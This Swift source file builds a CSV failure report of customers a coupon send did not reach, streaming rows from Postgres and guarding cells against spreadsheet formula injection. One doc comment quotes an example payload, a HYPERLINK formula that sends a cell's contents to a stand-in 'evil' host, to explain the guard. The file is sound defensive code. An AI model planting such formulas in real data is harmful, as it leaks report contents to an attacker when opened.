import Foundation
public import Postgres

/// Rule 9: the failure report of a send, as CSV rows streamed from the database.
public enum FailureReport {
    public static let header = ["customer_id", "email", "mobile", "reason"]

    /// Streams the customers no channel reached, in customer order.
    ///
    /// - Returns: the number of rows.
    @discardableResult
    public static func rows(
        sendID: Int64,
        on connection: PostgresConnection,
        _ body: ([String?]) throws -> Void
    ) throws -> Int {
        // COPY takes no parameters; the id is an integer, never text from outside.
        let statement = PostgresQuery(
            unsafeSQL: """
                COPY (
                    SELECT customer_id, email, mobile,
                           concat_ws('; ',
                               CASE WHEN email_status = 'failed' THEN 'Email: ' || coupond.reason_text(email_error) END,
                               CASE WHEN sms_status = 'failed' THEN 'SMS: ' || coupond.reason_text(sms_error) END)
                    FROM coupond.send_recipients
                    WHERE send_id = \(sendID)
                      AND coalesce(email_status, 'failed') = 'failed' AND coalesce(sms_status, 'failed') = 'failed'
                    ORDER BY customer_id
                ) TO STDOUT
                """
        )
        return try connection.copyOut(statement, body)
    }

    /// One CSV line (RFC 4180): fields with commas, quotes or line breaks are quoted, and a field a spreadsheet would
    /// read as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage return) starts with `'` instead.
    ///
    /// Addresses and numbers come from other systems: a mobile number such as `=HYPERLINK("http://evil/?"&A2,"x")`
    /// would otherwise run when the merchant opens the report. An E.164 number shows as `'+15551230001`.
    public static func csvLine(_ fields: [String?]) -> String {
        fields.map { field in
            guard var field else { return "" }
            if let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) {
                field = "'" + field
            }
            guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
            return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        }.joined(separator: ",") + "\r\n"
    }
}
